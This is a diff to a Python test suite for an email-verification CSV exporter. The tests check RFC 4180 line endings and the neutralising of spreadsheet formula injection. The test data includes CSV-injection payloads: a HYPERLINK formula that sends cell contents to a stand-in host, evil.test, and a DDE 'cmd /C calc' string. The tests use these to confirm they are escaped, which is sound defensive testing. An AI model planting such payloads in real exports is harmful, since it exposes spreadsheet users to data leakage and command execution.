@@ -1,4 +1,5 @@
-"""The bulk CSV: the spec's exact header, one row per output, Reacher's cell conventions."""
+"""The bulk CSV: the spec's exact header, one row per output, Reacher's cell conventions, RFC 4180
+line ends, and no cell a spreadsheet would take for a formula."""
 
 from __future__ import annotations
 
@@ -49,7 +50,7 @@ def output(**overrides: Any) -> dict[str, Any]:
 
 
 def test_header_is_the_specs_18_columns() -> None:
-    assert csv_export.header() == SPEC_HEADER + "\n"
+    assert csv_export.header() == SPEC_HEADER + "\r\n"
     assert len(csv_export.HEADER) == 18
 
 
@@ -57,7 +58,7 @@ def test_the_specs_example_row() -> None:
     assert csv_export.encode([output()]) == (
         "someone@gmail.com,invalid,false,false,,true,"
         '"alt3.gmail-smtp-in.l.google.com.,gmail-smtp-in.l.google.com.",,true,false,false,'
-        "false,true,,gmail.com,true,someone,\n"
+        "false,true,,gmail.com,true,someone,\r\n"
     )
 
 
@@ -137,3 +138,98 @@ def test_awkward_inputs_round_trip_through_a_csv_reader(awkward: str) -> None:
     assert len(rows) == 2
     assert rows[1][0] == awkward
     assert len(rows[1]) == 18
+
+
+def test_lines_end_with_crlf() -> None:
+    text = csv_export.header() + csv_export.encode([output(), output(input="b@x.test")])
+
+    assert text.count("\r\n") == 3
+    assert text.replace("\r\n", "").count("\n") == 0
+    assert text.endswith("\r\n")
+
+
+def syntax_of(address: str) -> dict[str, Any]:
+    username, _, domain = address.rpartition("@")
+    return {
+        "address": address,
+        "domain": domain,
+        "is_valid_syntax": True,
+        "username": username,
+        "normalized_email": address,
+        "suggestion": None,
+    }
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.test/?"&A1)@x.com',
+    "@SUM(1+1)@x.com",
+    "+1@x.com",
+    "-x@x.com",
+    "=1+2@x.com",
+    "\t=1@x.com",
+    "\r=1@x.com",
+    "user\rname@x.com",
+    "\rlead@x.com",
+    "a\r\n=b@x.com",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_formula_starts_are_neutralised_in_every_cell_and_read_back(hostile: str) -> None:
+    text = csv_export.header() + csv_export.encode(
+        [output(input=hostile, syntax=syntax_of(hostile)), output()]
+    )
+
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+
+    assert len(rows) == 3
+    assert all(len(row) == 18 for row in rows)
+    cells = dict(zip(csv_export.HEADER, rows[1], strict=True))
+    username = hostile.rpartition("@")[0]
+    assert cells["input"] == csv_export.neutralised(hostile)
+    assert cells["syntax.username"] == csv_export.neutralised(username)
+    assert rows[2][0] == "someone@gmail.com"
+    for value in rows[1]:
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (
+            '=HYPERLINK("http://evil.test/?"&A1)@x.com',
+            '\'=HYPERLINK("http://evil.test/?"&A1)@x.com',
+        ),
+        ("@SUM(1+1)@x.com", "'@SUM(1+1)@x.com"),
+        ("+1@x.com", "'+1@x.com"),
+        ("-x@x.com", "'-x@x.com"),
+        ("\tx@x.com", "'\tx@x.com"),
+        ("\rx@x.com", "'\rx@x.com"),
+        ("x=1@x.com", "x=1@x.com"),
+        ("a-b@x.com", "a-b@x.com"),
+        ("'quoted@x.com", "'quoted@x.com"),
+        ("\nx@x.com", "\nx@x.com"),
+        (" =x@x.com", " =x@x.com"),
+        ("", ""),
+        ("true", "true"),
+    ],
+)
+def test_neutralised(text: str, shown: str) -> None:
+    assert csv_export.neutralised(text) == shown
+
+
+def test_error_texts_are_neutralised_too() -> None:
+    row = csv_export.row(
+        output(smtp={"error": {"type": "AsyncSmtpError", "message": "-ERR =cmd|' /C calc'!A0"}})
+    )
+
+    assert dict(zip(csv_export.HEADER, row, strict=True))["smtp.error"] == (
+        "'-ERR =cmd|' /C calc'!A0"
+    )
+
+
+def test_a_bare_cr_stays_inside_its_quoted_field() -> None:
+    text = csv_export.encode([output(input="user\rname@x.com")])
+
+    assert text.startswith('"user\rname@x.com",')
+    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 1
